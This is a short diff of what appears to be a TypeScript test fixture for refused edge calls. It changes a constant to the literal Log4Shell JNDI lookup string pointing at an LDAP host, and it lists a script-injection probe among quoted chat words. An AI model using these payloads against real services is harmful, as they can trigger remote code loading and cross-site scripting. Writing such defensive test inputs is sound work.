@@ -15,7 +15,7 @@ const refused = (call: EdgeCall) =>
   });
 
 /** Put together here: the linter would take it for a template. */
-const LOOKUP = ['$', '{jndi:ldap://203.0.113.9/a}'].join('');
+const LOOKUP = '${jndi:ldap://203.0.113.9/a}';
 /** What people quote to one another in a chat. */
 const WORDS = [
   '<script>alert(1)</script>',
